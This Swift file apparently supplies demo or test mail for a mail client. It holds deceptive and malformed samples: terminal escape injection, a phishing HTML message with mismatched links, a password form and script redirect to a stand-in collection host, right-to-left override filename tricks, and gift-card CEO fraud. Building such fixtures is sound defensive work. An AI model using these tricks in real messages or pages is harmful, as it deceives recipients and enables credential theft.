import VmailDomain

/// Deceptive mail, and mail that is merely malformed.
enum HostileMail {
  @DialogueList
  static func atWork(_ clock: DemoClock) -> [Dialogue] {
    // Terminal escapes: set the title, clear the screen, and colour the following text.
    Dialogue(
      "escapes", "Overdue \u{1B}]0;owned\u{07}\u{1B}[2J\u{1B}[31minvoice\r\n vmail> delete all",
      .uncategorized,
      Letter(
        Person("Accounts\u{1B}[8m\u{9B}31m", "accounts@pay-now.example"), .hours(5, 2),
        """
        Dear customer,\u{1B}[2J\u{1B}[H

        your terminal has been cleared by this mail. If you can read this, it
        has not.\u{08}\u{08}\u{08}\u{07}

        \u{1B}]8;;https://pay-now.example/\u{1B}\\Click here\u{1B}]8;;\u{1B}\\ or don't.
        """
      ).verdict(.fail).unread()
    ).filed(.system(.spam))

    // A display name that is somebody else's address, and a file whose name hides its type.
    Dialogue(
      "boss-fraud", "Quick favour, are you at your desk?", .uncategorized,
      Letter(
        Person("jonas.weber@nordwind.example", "ceo.office@urgent-desk.example"), .days(1, 4),
        """
        Kim, I am in a meeting and need six gift cards, 200 each. Send me the
        numbers. Don't call, I am in a meeting. The invoice is attached.

        Sent from my yacht
        """
      ).attaching(.disguisedProgram("invoice.pdf.exe")).field("Reply-To", "jonas@free-mail.example").verdict(
        .softfail
      )
      .unread()
    ).filed(.system(.spam))

    Dialogue(
      "seo", "I looked at your web site and cried", .promotions,
      Letter(
        Person("Chad Optimal", "chad@rank-rocket.example"), .days(3, 5),
        "Your web site is on page 9. I can bring it to page 8. Shall we talk for only 45 minutes?\n"
      ).verdict(.softfail)
    ).filed(.system(.spam))
  }

  static func atHome(_ clock: DemoClock) -> [Dialogue] { deceiving(clock) + broken(clock) }

  @DialogueList
  private static func deceiving(_ clock: DemoClock) -> [Dialogue] {
    // Phishing in the Inbox, past the spam filter: each link leads elsewhere than its text says.
    Dialogue(
      "phishing", "Hafenbank: please confirm your account within 24 hours", .uncategorized,
      Letter(
        Person("Hafenbank Security", "service@hafenbank-secure.example"), .hours(4, 50),
        .html(
          """
          <html><body><p>Dear Customer,</p><p>we have noticed something. Please confirm your account:</p>
          <p><a href="https://login.hafenbank-secure.example/confirm?id=77">https://www.hafenbank.example/login</a></p>
          <p>Other ways: <a href="https://xn--hfenbank-16g.example/">hafenbank.example</a>,
          <a href="http://192.0.2.66/hafenbank/">hafenbank.example/help</a>,
          <a href="https://hafenbank.example@198.51.100.7/">our branch</a>,
          <a href="javascript:alert('no')">a script</a></p>
          <p style="display:none">weather cake regatta lighthouse Tuesday</p>
          <p style="color:#ffffff;background:#ffffff">our filters are tired of this</p>
          <form action="https://collect.hafenbank-secure.example/"><input name="password" type="password">
          <button>Confirm</button></form>
          <script>document.location = "https://collect.hafenbank-secure.example/"</script>
          <img src="https://collect.hafenbank-secure.example/seen.gif" width="1" height="1"></body></html>
          """,
          plain: nil)
      ).verdict(.fail).unread())

    // RIGHT-TO-LEFT OVERRIDE reverses "fdp.exe"; the sender's name hides a zero-width space.
    Dialogue(
      "bidi", "Your refund \u{202E}fdp.tpiecer\u{202C} is waiting", .uncategorized,
      Letter(
        Person("Tax\u{200B} Office \u{202E}ofni@", "refund@tax-gift.example"), .days(2, 6),
        "You get 914.20 back. Open the document. It is a document.\n"
      ).attaching(.disguisedProgram("refund\u{202E}fdp.exe")).verdict(.fail).unread()
    ).filed(.system(.spam))

    Dialogue(
      "prince", "Confidential: a lighthouse for you", .uncategorized,
      Letter(
        Person("Prince of a small island", "prince@small-island.example"), .days(4, 6),
        """
        Beloved friend,

        I have inherited nine lighthouses and can use only eight. For the fee
        of the notary (300) one is yours, with light.
        """
      ).verdict(.softfail)
    ).filed(.system(.spam))

    Dialogue(
      "lottery", "🎰🎰🎰 WINNER WINNER 🎰🎰🎰 y\u{0336}o\u{0336}u\u{0336}", .uncategorized,
      Letter(
        Person("𝕷𝖔𝖙𝖙𝖊𝖗𝖞", "win@lotto-lotto.example"), .days(6, 6),
        "You won in a lottery in which you did not take part. Imagine what happens if you do!\n"
      ).verdict(.fail).unread()
    ).filed(.system(.spam))
  }

  @DialogueList
  private static func broken(_ clock: DemoClock) -> [Dialogue] {
    Dialogue(
      "no-sender", "Found: one glove", .uncategorized,
      Letter(
        .nobody, .days(3, 6), "Found a glove on line 4, left hand, red. It is waiting in the cloakroom.\n"
      )
      .verdict(.unchecked))

    Dialogue(
      "nothing-at-all", "", .uncategorized,
      Letter(.nobody, .days(26, 6), "").verdict(.unchecked)
    ).filed(.system(.trash))

    Dialogue(
      "old-voucher", "Your voucher has expired. Again.", .promotions,
      Letter(
        Person("Sockenfach", "letter@sockenfach.example"), .days(13, 6),
        "We are not angry. Just cold.\n"
      ).field("List-Unsubscribe", "<https://sockenfach.example/u/77>")
    ).filed(.system(.trash))
  }
}
